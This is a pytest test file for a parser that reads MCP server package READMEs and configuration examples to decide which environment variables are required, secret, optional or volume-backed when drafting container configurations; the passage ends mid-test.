"""What the publisher of a package says of its variables, and what a stanza takes from that. Texts in, drafts out."""

import base64
import json
from dataclasses import replace
from urllib.parse import quote

import pytest

from bridge.fleet.adding import add, mends, notes, tries
from bridge.fleet.adding.draft import Draft
from bridge.fleet.adding.publishers import with_published
from bridge.fleet.adding.sdks import with_sdks
from bridge.fleet.adding.trial import needs, package_files, published, readmes, witness
from bridge.fleet.adding.trial.calls import Call
from bridge.fleet.adding.trial.container import Seen


def shown(env, command="npx", args=("-y", "@me/site-mcp")):
    return json.dumps(
        {"mcpServers": {"it": {"command": command, "args": list(args), **({"env": env} if env is not None else {})}}}, indent=2
    )


def needed(*texts, package="@me/site-mcp", **others):
    return {one["name"]: one["needed"] for one in published.variables("\n\n".join(texts), package, **others)}


def drafted(*texts, reads=(), name="it", **others):
    report = witness._nothing_yet()
    report.update(published=published.variables("\n\n".join(texts), "@me/site-mcp", **others), reads=list(reads))
    draft = with_published(Draft(name, {"npm": "@me/site-mcp@1.0"}, ("it",)), Seen(report))
    add._checked(draft)
    return draft


# ---- what is needed --------------------------------------------------------------------


@pytest.mark.parametrize(
    "texts, says",
    [
        ([shown({"A_KEY": "<key>"})], {"A_KEY": True}),
        ([shown({"A_KEY": "<key>"}), shown(None)], {"A_KEY": False}),
        ([shown(None), shown({"A_KEY": "<key>"})], {"A_KEY": False}),
        ([shown({"A_KEY": "x", "B_KEY": "x"}), shown({"A_KEY": "x"})], {"A_KEY": True, "B_KEY": False}),
        ([shown({"A_KEY": "x"}), shown({"A_KEY": "x", "B_KEY": "x"})], {"A_KEY": True, "B_KEY": False}),
        ([shown({"A_KEY": "x"}), shown({"B_USER": "x", "B_PASSWORD": "x"})], {"A_KEY": True, "B_USER": False, "B_PASSWORD": False}),
    ],
)
def test_the_first_configuration_is_what_is_needed_but_for_what_another_does_without(texts, says):
    assert needed(*texts) == says


@pytest.mark.parametrize(
    "other",
    [
        shown(None, args=["-y", "mcp-remote", "https://it.example.com/mcp"]),
        shown(None, "uvx", ["other-mcp"]),
        shown(None, "sitcli", ["mcp:start"]),
        shown(None, "sitcli mcp:start", []),
        shown(None, args=["-y", "@me/site-mcp", "--api-key", "<key>"]),
        '{"mcpServers": {"it": {"url": "https://it.example.com/mcp"}}}',
    ],
)
def test_what_starts_something_else_or_gives_the_key_in_another_way_says_nothing(other):
    assert needed(shown({"A_KEY": "<key>"}), other) == {"A_KEY": True}


def test_a_variable_that_the_arguments_refer_to_is_the_client_s():
    assert needed(shown({"A_KEY": "x"}, args=["-y", "@me/site-mcp", "--api-key", "$A_KEY"])) == {}


@pytest.mark.parametrize("words, files", [("Path to the private key file", ("A_KEY",)), ("The key; see the path to it", ())])
def test_a_key_of_which_is_said_that_it_is_a_path_is_a_file(words, files):
    assert drafted(f"| `A_KEY` | {words} | No |", reads=["A_KEY"]).as_files == files
    assert drafted(f"- `A_KEY`: {words}", reads=["A_KEY"]).as_files == files


def test_what_stands_behind_a_host_is_no_door_and_no_folder():
    it = drafted(shown({"A_TOKEN": "<token>", "A_HTTP_PATH": "/sql/1.0/warehouses/15c864", "A_HTTP_PORT": "8080"}))

    assert (it.env, it.volumes) == ({"A_HTTP_PATH": "${A_HTTP_PATH}"}, ())


@pytest.mark.parametrize(
    "heading, says",
    [
        ("# Required", True),
        ("## Variables (required)", True),
        ("The following are required:", True),
        ("# Minimum number of sources required (1 to 10)", None),
    ],
)
def test_a_heading_says_that_what_follows_is_required_but_not_what_else_is(heading, says):
    assert needed(f"{heading}\nA_NUMBER=3") == {"A_NUMBER": says}


def test_keys_on_one_line_of_a_shell_are_all_needed_and_count_where_they_are_shown_for_another_transport_only():
    line = "SITE_ID=<Your id> SITE_SECRET=<Your secret> uvx site-mcp --transport sse # NO_KEY=x"

    assert needed(f"```\n{line}\n```") == {"SITE_ID": True, "SITE_SECRET": True}
    assert needed(f"```\n{line}\n```\n```\nexport SITE_SECRET=x\n```")["SITE_ID"] is None


def test_a_default_that_is_none_is_none_and_may_say_required():
    text = "```\nexport A_CLIENT_ID=...\nexport A_SECRET=...\n```\n| Variable | Default |\n|---|---|\n| `A_CLIENT_ID` | _(required)_ | the id |\n| `A_URL` | *(unset)* | |"

    assert drafted(text).env == {"A_CLIENT_ID": "${A_CLIENT_ID}"}


def test_a_file_of_its_own_in_the_home_is_kept_though_clients_have_one_of_such_a_name():
    assert readmes.home("The address is stored in `~/.site-mcp.json`", "site-mcp") == ".site-mcp.json"
    assert readmes.home("Stored in ~/.site-mcp/mcp.json", "site-mcp") == ""
    assert readmes.home("It writes a token to `~/.config/site-mcp/config.json` then", "site-mcp") == ".config/site-mcp/config.json"
    assert readmes.home("Its settings are stored in `~/.config/site-mcp/config.json`", "site-mcp") == ""
    assert readmes.home("Create `~/.config/site-mcp/.env` with", "site-mcp") == ""


@pytest.mark.parametrize("row, says", [("是 | - |", True), ("否 | - |", False), ("必填 | - |", True), ("可选 | - |", False)])
def test_chinese_says_yes_and_no_too(row, says):
    assert needed(f"| 变量 | 必需 | 默认 |\n|---|---|---|\n| `A_KEY` | {row}") == {"A_KEY": says}
    assert needed("- `A_KEY`：可选，默认为空")["A_KEY"] is False


def test_a_configuration_in_a_variable_is_a_secret_where_a_password_is_in_it_and_its_kind_is_the_operator_s():
    it = drafted(shown({"DB_TYPE": "pg", "DB_CONFIG": '{"host": "localhost", "password": "pw"}', "DB_EXTRA_TOKEN": "x"}))

    assert (it.secrets, it.optional, it.env) == (("DB_CONFIG", "DB_EXTRA_TOKEN"), ("DB_EXTRA_TOKEN",), {"DB_TYPE": "${DB_TYPE:-pg}"})


@pytest.mark.parametrize(
    "texts",
    [
        [shown({"DRAW_PATH": "/Applications/Draw.app/Contents/MacOS/draw"})],
        [shown({"DRAW_PATH": "/path/to/draw"}), "| `DRAW_PATH` | Yes | the Draw executable |"],
    ],
)
def test_the_path_of_a_program_is_no_folder_and_told(texts):
    it = drafted(*texts)

    assert (it.env, it.volumes) == ({"DRAW_PATH": "${DRAW_PATH}"}, ())
    assert "DRAW_PATH is where a program" in it.why["program"]
    assert it.why["program"][:40] in " ".join(
        notes.of_a_started_one(replace(it, why=it.why | {"egress": "", "smoke": ""}), "it", Seen(witness._nothing_yet()))
    )


def test_a_key_that_a_sentence_on_http_names_is_one_where_a_shell_sets_it():
    text = "```\nexport SITE_TOKEN=x\n```\n- `SITE_TOKEN`: is ignored by the HTTP transport in this mode"

    assert needed(text)["SITE_TOKEN"]


def test_a_part_of_a_configuration_adds_variables_and_takes_none_away():
    assert needed(shown({"A_KEY": "x"}), '"env": {"A_MODE": "both"}') == {"A_KEY": True, "A_MODE": False}


@pytest.mark.parametrize(
    "row, says",
    [
        ("| `A_KEY` | Yes | - | the key |", True),
        ("| `A_KEY` | ✅ | | the key |", True),
        ("| **A_KEY** | **Yes** | | the key |", True),
        ("| `A_KEY` | No | - | the key |", False),
        ("| `A_KEY` | ❌ | | the key |", False),
        ("| `A_KEY` | Yes* | | or B_KEY |", False),
        ("| `A_KEY` | Yes, if remote | | |", False),
        ("| `A_KEY` | For writes | | |", False),
    ],
)
def test_a_table_with_a_column_says_what_is_required(row, says):
    assert needed(f"| Variable | Required | Default | Description |\n|---|---|---|---|\n{row}") == {"A_KEY": says}


@pytest.mark.parametrize(
    "text, says",
    [
        ("- `A_KEY`: the key (required)", True),
        ("* **A_KEY** - (Optional) the key", False),
        ("- `A_KEY`: a chave (obrigatória)", True),
        ("- `A_KEY`: la clave (opcional)", False),
        ("- `A_KEY`: required if there is no B_KEY", False),
        ("- `A_URL`: the address, defaults to `https://a.example.org`", False),
        ("- `A_COLLECTION`: name of the default collection", None),
        ("### Optional variables\n\n- `A_KEY`: the key", False),
        ("**Required:**\n- `A_KEY`: the key", True),
        ("| Variable | Default |\n|---|---|\n| `A_SIZE` | `10` |", False),
        ("| Variable | Default |\n|---|---|\n| `A_SIZE` | none |", None),
        ("```\n# Optional\nA_SIZE=10\n```", False),
        ("```\nA_SIZE=10  # required\n```", True),
        ("The `A_ID` is optional and is used by managers.\n\n- `A_ID`: an account (required for some)", False),
    ],
)
def test_words_say_what_is_required_and_what_may_be_left_out(text, says):
    assert list(needed(text).values()) == [says]


@pytest.mark.parametrize(
    "said",
    [
        "- `A_KEY`: the key (if using the cloud)",
        "- `A_KEY`: the key, required when using the cloud",
        "- `A_KEY`: only needed for the cloud",
        "| Name | Required |\n|---|---|\n| `A_KEY` | \u274c No\\*\\* |",
        "```bash\nexport A_KEY=abc  # your key (if using the cloud)\n```",
    ],
)
def test_what_is_required_only_in_some_case_is_optional(said):
    assert needed(shown({"A_URL": "<url>", "A_KEY": "<key>"}), said) == {"A_URL": True, "A_KEY": False}


def test_words_about_conditions_and_defaults_do_not_take_from_what_everybody_sets():
    lead = shown({"A_KEY": "<key>", "A_PORT": "1234"})

    assert needed(lead, "- `A_KEY`: the key (required unless A_KEY_FILE is set)\n- `A_PORT`: default: 1234") == {
        "A_KEY": True,
        "A_PORT": True,
    }
    assert needed(lead, "- `A_KEY`: optional")["A_KEY"] is False
    assert needed('{"command": "npx", "args": ["it"], "env": {"A_KEY": "optional-key-for-more", "B_KEY": "your-key"}}') == {
        "A_KEY": False,
        "B_KEY": True,
    }
    assert (
        needed('{"command": "npx", "args": ["@me/site-mcp"], "env": {\n"A_KEY": "x",\n"A_URL": "https://a.org" // Optional\n}}')["A_URL"]
        is False
    )


def test_a_table_of_all_that_there_is_adds_nothing_to_what_everybody_must_set():
    table = "| Variable | Required |\n|---|---|\n| `A_KEY` | Yes |\n| `OAUTH_ISSUER` | Yes |"

    assert needed(shown({"A_KEY": "x"}), table) == {"A_KEY": True, "OAUTH_ISSUER": None}
    assert needed(table) == {"A_KEY": True, "OAUTH_ISSUER": True}


def test_what_is_said_of_a_server_by_http_is_not_of_this_one():
    table = "| Variable | Description |\n|---|---|\n| `A_API_KEY` | Bearer token for SSE and HTTP transports |\n| `B_API_KEY` | of the HTTP API |"

    assert needed(table) == {"B_API_KEY": None}
    assert needed("- `A_TOKEN`: bearer token in streamable-http mode") == {}


def test_a_server_json_says_it_before_all_others():
    server = {"packages": [{"environmentVariables": [{"name": "A_KEY", "isRequired": False}, {"name": "B_KEY", "isRequired": True}]}]}

    assert needed(shown({"A_KEY": "x", "B_KEY": "x"}), server=json.dumps(server)) == {"A_KEY": False, "B_KEY": True}
    assert needed(server="[]") == needed(server='{"packages": [3]}') == needed(server="{") == {}


def test_configurations_in_links_count():
    config = {"command": "npx", "args": ["-y", "@me/site-mcp"], "env": {"A_KEY": "${input:key}"}}

    assert needed(f"[Install](https://x.example.com/mcp?config={quote(json.dumps(config))})") == {"A_KEY": True}
    assert needed(f"[Install](cursor://x?name=it&config={base64.b64encode(json.dumps(config).encode()).decode()})") == {"A_KEY": True}
    assert needed("config=eyJhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhh") == {}


def test_where_no_client_is_shown_the_lines_for_a_shell_count_that_set_a_key():
    shell = "```\nexport A_USER=you\nexport A_TOKEN=x\n```"

    assert needed("```\nA_TEST_DIR=/tmp pytest\n```", shell) == {"A_USER": True, "A_TOKEN": True, "A_TEST_DIR": None}
    assert needed(shown({"A_KEY": "x"}), shell)["A_TOKEN"] is None


def test_a_long_or_broken_readme_has_an_end():
    assert published.variables("{" * 300_000 + '"command": "', "it") == []
    published.variables('"command": "npx", "args": [' * 3000 + '"env": {' * 3000, "it")
    published.variables("| A_KEY " * 50_000, "it")


# ---- what becomes of it ----------------------------------------------------------------


def test_keys_become_secrets_what_only_the_operator_knows_variables_and_what_is_there_anyhow_nothing():
    draft = drafted(
        shown({"A_TOKEN": "<token>", "A_URL": "https://your-site.example.com", "A_USER": "admin", "A_MODE": "both", "LOG_LEVEL": "info"}),
        "- `A_OTHER_TOKEN`: instead\n- `C_TOKEN`: of another service",
    )

    assert (draft.secrets, draft.optional) == (("A_TOKEN", "A_OTHER_TOKEN"), ("A_OTHER_TOKEN",))
    assert draft.env == {"A_URL": "${A_URL}", "A_USER": "${A_USER}"}


def test_a_key_of_a_server_that_calls_its_variables_by_the_protocol_is_one():
    assert drafted(shown({"MCP_MAIL_PASSWORD": "<it>"})).secrets == ("MCP_MAIL_PASSWORD",)


def test_what_belongs_to_a_key_that_is_only_told_comes_along():
    draft = drafted(
        shown({"A_KEY": "<key>"}), "```\nexport A_USERNAME=you\nexport A_PASSWORD=it\nexport A_MODE=x\n```\n- `A_PASSWORD`: instead"
    )

    assert draft.optional == ("A_PASSWORD", "A_USERNAME")


def test_what_failed_calls_speak_of_and_may_be_left_out_is_advice():
    report = witness._nothing_yet()
    call = witness._not_answered(Call("look", {})) | {"complaint": "A_TOOLS is not set, SITE_URL is not set"}
    report.update(published=published.variables("- `A_TOOLS`: optional", "it"), calls=[call], started=1.0)

    assert mends.with_variables(Draft("it"), Seen(report)).env == {"SITE_URL": "${SITE_URL}"}


def test_a_password_that_is_enough_is_that_with_its_user():
    words = (
        "You need one of the following keys:\n- `SITE_API_KEY`: a key\n- `SITE_PASSWORD`: of `SITE_USERNAME`\n\n- `SITE_USERNAME`: optional"
    )
    it = drafted(words, shown({"SITE_API_KEY": "<key>"}), shown({"SITE_PASSWORD": "<password>", "SITE_USERNAME": "you"}))

    assert it.why["instead"].endswith("one is needed: SITE_API_KEY, SITE_PASSWORD with SITE_USERNAME")


def test_what_its_publisher_speaks_of_is_not_guessed():
    report = witness._nothing_yet()
    report.update(published=published.variables("- `A_USER`: optional", "it"), reads=["A_USER", "B_USER"])

    assert mends.unsaid(Draft("it"), Seen(report)) == ["B_USER"]


@pytest.mark.parametrize(
    "words",
    [
        "Pick one credential path.\n\n| Variable | What |\n|--|--|\n| `A_KEY` | of the gate |\n| `B_TOKEN` | direct |",
        "Set credentials (pick one):\n\n```bash\nexport A_KEY=your-key\n\n# or\nexport B_TOKEN=your-token\n```",
        "You need one of the following keys:\n- `A_KEY`: of the gate\n- `B_TOKEN`: direct",
        "Set either `A_KEY` or `B_TOKEN` as its key.",
    ],
)
def test_of_keys_of_which_one_is_enough_none_is_required_and_that_is_said(words):
    it = drafted(words, shown({"A_KEY": "<key>"}), shown({"B_TOKEN": "<key>"}))

    assert set(it.optional) == set(it.secrets) == {"A_KEY", "B_TOKEN"}
    assert it.why["instead"] == "by its README one of these is enough, and one is needed: A_KEY, B_TOKEN"
    told = list(notes._decisions(replace(it, optional=(*it.optional, "C_KEY"), why=it.why | {"egress": "it"})))
    assert told[1:] == ["it may be given C_KEY, and starts without: what you have of these belongs into compose/.env", it.why["instead"]]


def test_another_package_that_only_begins_so_does_not_lead_and_comments_above_a_pair_are_about_it():
    other = shown({"A_KEY": "<key>"}, args=["site-mcp-pro@latest"])
    own = '{"command": "npx", "args": ["@me/site-mcp"], "env": {\n// Optional.\n// Note: one of yours.\n"A_KEY": "",\n// Optional. To update it.\n"A_PROJECT": "",\n"A_MODE": ""}}'

    assert needed(other, own) == {"A_KEY": False, "A_PROJECT": False, "A_MODE": True}
    assert drafted(other, own).optional == ("A_KEY", "A_PROJECT")
    assert needed(other) == {"A_KEY": True}


@pytest.mark.parametrize(
    "words",
    [
        "Pick one key of your account.\n\nSet it.\n\n- `A_KEY`: yours\n- `B_TOKEN`: another",
        "Choose one of its tools:\n- `A_KEY`: yours\n- `B_TOKEN`: another",
        "Pick one credential path.\n\n| Variable | Required |\n|--|--|\n| `A_KEY` | yes |\n| `B_TOKEN` | no |",
        "Use one token:\n- `A_KEY`: yours",
    ],
)
def test_where_no_keys_stand_for_each_other_what_everybody_sets_is_required(words):
    it = drafted(words, shown({"A_KEY": "<key>"}))

    assert "A_KEY" in it.secrets and "A_KEY" not in it.optional and "instead" not in it.why


def test_an_address_that_everybody_sets_alike_stays_as_it_is_shown_unless_an_operator_says_another():
    env = {"A_KEY": "<key>", "A_BASE_URL": "https://gate.site.io/v1"}

    it = drafted(shown(env))
    assert (it.env, it.volumes) == ({"A_BASE_URL": "${A_BASE_URL:-https://gate.site.io/v1}"}, ())
    host = drafted(shown({"A_KEY": "<key>", "A_HOST": "https://gate.site.io"}))
    assert host.env == {"A_HOST": "${A_HOST:-https://gate.site.io}"}
    assert drafted(shown(env), shown({"A_KEY": "<key>"})).env == {}
    assert drafted(shown(env), "- `A_BASE_URL`: default: https://gate.site.io/v1").env == {}
    assert drafted(shown(env | {"A_BASE_URL": "https://me:pass@gate.site.io/v1"})).env == {"A_BASE_URL": "${A_BASE_URL}"}


def test_the_key_of_a_client_of_its_own_http_door_is_left_out_unless_it_is_shown_first():
    assert drafted("| Variable | About |\n|---|---|\n| `MCP_API_KEY` | optional |").secrets == ()
    assert drafted(shown({"MCP_API_KEY": "<your key>"})).secrets == ("MCP_API_KEY",)


def test_a_key_that_is_shown_empty_and_only_recommended_is_optional():
    config = shown({"SITE_EMAIL": "me@site.io", "SITE_A_KEY": "", "SITE_B_KEY": "", "SITE_C_KEY": ""})
    table = "| Variable | Required? |\n|---|---|\n| `SITE_A_KEY` | Recommended |\n| `SITE_B_KEY` | Required |\n| `SITE_C_KEY` | **Required to activate** |"

    draft = drafted(config, table)

    assert (draft.secrets, draft.optional) == (("SITE_B_KEY", "SITE_A_KEY", "SITE_C_KEY"), ("SITE_A_KEY", "SITE_C_KEY"))


@pytest.mark.parametrize(
    "name, value, default, env",
    [
        ("A_STORE_PATH", "/path/to/notes.json", "", {"A_STORE_PATH": "/data/notes.json"}),
        ("A_STORE_PATH", "/path/to/notes", "", {"A_STORE_PATH": "/data"}),
        ("A_STORE_DIR", "/path/to/v1.old", "", {"A_STORE_DIR": "/data"}),
        ("A_BOOK_PATH", "demo.ipynb", "auto-generated", {}),
    ],
)
def test_a_place_is_a_file_where_a_file_is_shown_and_none_where_nothing_is_to_be_set(name, value, default, env):
    table = f"| Variable | Default |\n|---|---|\n| `{name}` | {default} |" if default else ""

    assert drafted(shown({name: value}), table).env == env


def test_a_place_whose_name_could_be_that_of_an_address_has_its_volume():
    it = drafted(shown({"DOWNLOAD_BASE_PATH": "/path/to/downloads"}))

    assert (it.env, it.volumes) == ({"DOWNLOAD_BASE_PATH": "/data"}, ("it-data:/data",))


def test_a_proxy_is_offered_and_never_demanded():
    it = drafted(shown({"A_KEY": "<key>", "A_PROXY_URL": "http://127.0.0.1:7890"}))

    assert (it.secrets, it.optional, it.env) == (("A_KEY", "A_PROXY_URL"), ("A_PROXY_URL",), {})


def test_another_server_is_offered_where_an_identity_is_needed_and_no_key():
    it = drafted(
        shown({"SITE_CHAT_ID": "123456789"}),
        shown({"SITE_CHAT_ID": "123456789", "SITE_SERVER_URL": "https://your-server.example.com"}),
        reads=["SITE_CHAT_ID", "SITE_SERVER_URL"],
    )

    assert (it.env, it.secrets) == ({"SITE_CHAT_ID": "${SITE_CHAT_ID}"}, ("SITE_SERVER_URL",))


def test_an_address_that_an_example_has_here_is_optional_where_its_default_is_elsewhere():
    env = {"A_KEY": "<key>", "A_BASE_URL": "http://localhost:5002"}

    assert drafted(shown(env), "- `A_BASE_URL` (optional, default `https://api.site.io`): override when developing").env == {}
    assert drafted(shown(env)).env == {"A_BASE_URL": "${A_BASE_URL}"}
    assert drafted(shown(env), "- `A_BASE_URL` (optional, default `http://localhost:5002`)").env == {"A_BASE_URL": "${A_BASE_URL}"}


def test_a_key_to_its_own_door_that_is_optional_is_left_out_though_an_example_has_one():
    block = "```\nSITE_KEY=your_key\nSITE_MCP_AUTH_SECRET=your_jwt_secret_key\n```"

    assert drafted(block).secrets == ("SITE_KEY", "SITE_MCP_AUTH_SECRET")
    assert drafted("- `SITE_MCP_AUTH_SECRET` (optional): for clients", block).secrets == ("SITE_KEY",)


@pytest.mark.parametrize("value", ["ls,cat,pwd", '["drive", "mail"]'])
def test_a_list_of_what_is_allowed_or_switched_on_stays_as_everybody_sets_it(value):
    env = {"SITE_ENABLED": value}

    assert drafted(shown(env)).env == {"SITE_ENABLED": f"${{SITE_ENABLED:-{value}}}"}
    assert drafted(shown(env), "- `SITE_ENABLED`: optional").env == {}
    assert drafted(shown({"SITE_DISABLED": value})).env == drafted(shown({"SITE_ENABLED": "tool1,tool2"})).env == {}


def test_a_key_without_a_default_is_needed_where_a_table_says_what_is_the_default_of_others():
    rows = ["| `A_KEY` | the key | — |", "| `A_URL` | where it is | — |", "| `A_LOG` | log file | — |", "| `B_URL` | other | - |"]
    table = "\n".join(["| Variable | Description | Default |", "|---|---|---|", *rows, "| `A_MODE` | how | `fast` |"])

    assert needed(table) == {"A_KEY": True, "A_URL": True, "A_MODE": False, "A_LOG": None, "B_URL": None}
    assert not any(needed(table.replace("`fast`", "-")).values())


def test_an_address_in_this_machine_must_be_told_to_a_container():
    draft = drafted(shown({"A_PASSWORD": "x", "A_HOST": "localhost"}), "- `A_HOST`: optional, default: localhost")

    assert draft.env == {"A_HOST": "${A_HOST}"}


def test_an_address_that_may_be_left_out_is_optional_as_its_key():
    draft = drafted(shown({"A_TOKEN": "x", "A_URL": "https://a.example.org/api"}), "- `A_URL`: (optional) your own")

    assert (draft.secrets, draft.optional, draft.env) == (("A_TOKEN", "A_URL"), ("A_URL",), {})


def test_a_place_becomes_one_in_a_volume_and_a_file_of_a_key_a_secret_that_is_one():
    draft = drafted(
        shown({"A_OUTPUT_DIR": "/Users/you/Desktop", "SERVICE_ACCOUNT_PATH": "/path/to/key.json", "A_SPEC_PATH": "https://your.org/x"})
    )

    assert draft.env == {"A_OUTPUT_DIR": "/data", "A_SPEC_PATH": "${A_SPEC_PATH}"}
    assert (draft.volumes, draft.fields["secrets"]) == (("it-data:/data",), {"SERVICE_ACCOUNT_PATH": {"as": "file"}})


def test_what_is_required_and_the_same_for_everybody_stands_there_as_it_is():
    draft = drafted(
        shown({"A_KEY": "<key>", "A_API_VERSION": "v2", "A_SALT": "sk-1234567890abcdef1234"}),
        "- `A_API_VERSION`: required\n- `A_SALT`: required",
    )

    assert draft.env == {"A_API_VERSION": "v2", "A_SALT": "${A_SALT}"}


def test_a_name_that_is_none_is_left_out():
    server = {
        "packages": [
            {"environmentVariables": [{"name": name, "isRequired": True} for name in ("A KEY", "x\ny", "", "A_KEY", "LD_PRELOAD")]}
        ]
    }

    draft = drafted(server=json.dumps(server))

    assert (draft.secrets, draft.env) == (("A_KEY",), {})


def test_keys_of_many_services_at_once_may_all_be_left_out():
    draft = drafted(shown({"A_KEY": "", "B_TOKEN": "", "C_PASSWORD": "", "C_URL": ""}))

    assert (draft.secrets, draft.optional, draft.env) == (("A_KEY", "B_TOKEN", "C_PASSWORD", "C_URL"),) * 2 + ({},)


@pytest.mark.parametrize(
    "name", ["MCP_AUTH_TOKEN", "FASTMCP_TOKEN", "NODE_AUTH_TOKEN", "IT_MCP_HOST", "MCP_TRANSPORT", "SENTRY_DSN", "PWD", "A_HTTP_PORT"]
)
def test_what_is_of_its_own_door_or_of_its_runtime_is_not_asked_for(name):
    assert (drafted(shown({name: "<x>"})).secrets, drafted(shown({name: "<x>"})).env) == ((), {})


def test_keys_that_are_only_told_count_where_its_code_reads_them_or_they_are_called_like_it():
    text = "- `A_TOKEN`: needed one day\n- `AUTHOR_KEY`: of its author"

    assert drafted(text, reads=["A_TOKEN"]).optional == ("A_TOKEN",)
    assert drafted(text).secrets == ()


def test_an_example_of_an_env_is_read(tmp_path, monkeypatch):
    (tmp_path / ".env.example").write_text("# Required\nSITE_KEY=\n")
    monkeypatch.setattr(package_files, "_files", lambda *_: [tmp_path / ".env.example"])

    assert [(one["name"], one["needed"]) for one in package_files.variables("it")["published"]] == [("SITE_KEY", True)]


@pytest.mark.parametrize(
    "code, names",
    [
        ("const SITE_KEY = process.env.SITE_KEY", ["SITE_KEY"]),
        ("const { SITE_KEY } = settings", ["SITE_KEY"]),
        ("const SITE_KEY = process.argv[2]", []),
    ],
)
def test_what_a_readme_shows_does_not_count_where_the_code_takes_it_from_elsewhere(tmp_path, monkeypatch, code, names):
    (tmp_path / "it.js").write_text(code)
    (tmp_path / "README.md").write_text(shown({"SITE_KEY": "<key>"}))
    monkeypatch.setattr(package_files, "_files", lambda *_: sorted(tmp_path.iterdir()))

    assert [one["name"] for one in package_files.variables("@me/site-mcp")["published"]] == names


def test_a_folder_that_is_asked_for_by_a_variable_is_a_volume_that_says_why():
    draft = drafted(shown({"BANK_ROOT": "<path-to-bank>"}))

    assert (draft.env, draft.volumes) == ({"BANK_ROOT": "/data"}, ("it-data:/data",))
    assert draft.why["volumes"] == "its publisher sets BANK_ROOT: kept, not lost at the next start"


def test_what_its_publisher_says_is_tried_before_arguments_are_guessed():
    ended, works = witness._nothing_yet(), witness._nothing_yet()
    readme = shown({"SITE_KEY": "<key>"}) + shown(None, args=["-y", "@me/site-mcp", "https://localhost/x"])
    ended.update(
        published=published.variables(readme, "@me/site-mcp"),
        shown=package_files.shown_arguments(readme, "@me/site-mcp"),
        words=["no SITE_KEY"],
    )
    works.update(published=ended["published"], started=1.0)

    class Table:
        asked = frozenset()

        def look(self, stanza):
            return Seen(ended)

        def watch(self, stanza, values, calls=None, is_open=False):
            assert "SITE_KEY" in stanza.secrets  # that is known before its first start
            return Seen(works if "SITE_KEY" in stanza.secrets and stanza.command == ["it"] else ended)

    draft, seen = tries.mended(tries.Tries(Table(), {}, add._checked), Draft("it", {"npm": "@me/site-mcp@1.0"}, ("it",)))

    assert (draft.command, draft.secrets, seen.report["started"]) == (("it",), ("SITE_KEY",), 1.0)


def test_an_operator_who_says_what_he_sets_is_asked_for_nothing_else_that_is_only_published():
    works = witness._nothing_yet()
    works.update(published=published.variables(shown({"SITE_KEY": "<key>", "SITE_URL": "<url>"}), "@me/site-mcp"), started=1.0)

    class Table:
        asked = frozenset({"SITE_TOKEN"})

        def watch(self, stanza, values, calls=None, is_open=False):
            return Seen(works)

    draft, _ = tries.mended(
        tries.Tries(Table(), {}, add._checked), Draft("it", {"npm": "@me/site-mcp@1.0"}, ("it",), secrets=("SITE_TOKEN",))
    )

    assert (draft.secrets, draft.env) == (("SITE_TOKEN",), {})


# ---- several ways in -------------------------------------------------------------------


def test_a_configuration_that_has_less_is_none_where_it_is_one_of_many():
    it = shown({"A_KEY": "<key>"})

    assert needed(shown(None), *[it] * 5) == {"A_KEY": True}
    assert needed(shown(None), *[it] * 2) == {"A_KEY": False}


def test_another_way_in_that_a_configuration_shows_is_told():
    key, account = {"IT_URL": "https://your-org.io", "IT_API_KEY": "<key>"}, {"IT_USERNAME": "<user>", "IT_PASSWORD": "<password>"}
    it = drafted(shown(key), shown({"IT_URL": "https://your-org.io", "IT_READ_ONLY": "true", **account}))
    one = drafted(shown(key), shown({**key, **account}))

    assert it.secrets == it.optional == ("IT_API_KEY", "IT_PASSWORD", "IT_USERNAME")  # whoever has the other way in edits nothing
    assert it.why["instead"] == "by its README one of these is enough: IT_API_KEY, or IT_USERNAME and IT_PASSWORD"
    assert "instead" not in one.why
    by_file = drafted(shown({"IT_SERVICE_ACCOUNT_PATH": "/path/to/a.json"}), shown({"IT_CREDENTIALS_PATH": "/path/to/b.json"}))
    assert by_file.why["instead"] == "by its README one of these is enough: IT_SERVICE_ACCOUNT_PATH, or IT_CREDENTIALS_PATH"


def test_another_way_in_that_prose_names_is_told():
    prose = "For its tools set either `IT_TOKEN` or both `IT_USERNAME` and\n`IT_PASSWORD`. If both are set, the token is used."
    table = "| Name | Default |\n|---|---|\n| `IT_TOKEN` | |\n| `IT_USERNAME` | |\n| `IT_PASSWORD` | |\n| `IT_LEVEL` | `INFO` |"
    it = drafted(shown({"IT_TOKEN": "<token>"}), table, prose)

    assert it.secrets == it.optional == ("IT_TOKEN", "IT_PASSWORD", "IT_USERNAME")
    assert it.why["instead"] == "by its README one of these is enough: IT_TOKEN, or IT_USERNAME and IT_PASSWORD"


def test_a_comment_between_two_ways_in_parts_the_lines_of_a_shell():
    lines = "```bash\nexport IT_KEY=abc\n# or\nexport IT_OTHER_KEY=/path/to/key.json\n```"

    assert needed(lines) == {"IT_KEY": True, "IT_OTHER_KEY": False}
    assert needed(lines.replace("# or", "# ours")) == {"IT_KEY": True, "IT_OTHER_KEY": True}


def test_a_comment_above_a_line_of_a_shell_says_that_it_is_optional_and_a_heading_above_a_block_does_not():
    lines = "```bash\n# Required: who it is\nexport IT_TOKEN=abc\n\n# Optional: for webhooks\nexport IT_SIGNING_SECRET=abc\n```"

    assert needed(lines) == {"IT_TOKEN": True, "IT_SIGNING_SECRET": False}
    assert needed(shown({"IT_TOKEN": "abc"}), "### Optional: in a file\n```\nIT_TOKEN=abc\n```") == {"IT_TOKEN": True}


def test_one_of_which_no_other_is_a_key_of_this_server_is_no_choice():
    services = "You need **at least one** of the following:\n- an IT API key\n- a Studio API key\n"
    it = drafted(shown({"IT_API_TOKEN": "x", "IT_STUDIO_API_KEY": "x"}), services, "YOUR_API_KEY")
    prose = "Use a certificate because the server requires one at the TLS layer, then IT_PASSWORD as credentials. IT_VERIFY_KEY is another."

    assert "instead" not in it.why and it.optional == ()
    assert needed(shown({"IT_PASSWORD": "x", "IT_VERIFY_KEY": "x"}), prose) == {"IT_PASSWORD": True, "IT_VERIFY_KEY": True}


@pytest.mark.parametrize(
    "heading, optional",
    [("**Optional (may be given to tools):**", True), ("### Optional settings", True), ("### Optional: by Docker", False)],
)
def test_what_stands_below_a_heading_of_optional_ones_is_that_though_everybody_is_shown_it(heading, optional):
    listed = f"{heading}\n\n- `IT_FROM_EMAIL`: whose mail it is"

    assert needed(shown({"IT_KEY": "x", "IT_FROM_EMAIL": "you@example.com"}), listed) == {"IT_KEY": True, "IT_FROM_EMAIL": not optional}


@pytest.mark.parametrize("heading, is_told", [("## Self-managed remote server", False), ("## HTTP", False), ("## Options", True)])
def test_what_stands_below_a_heading_of_a_server_for_clients_elsewhere_is_not_of_this_one(heading, is_told):
    table = (
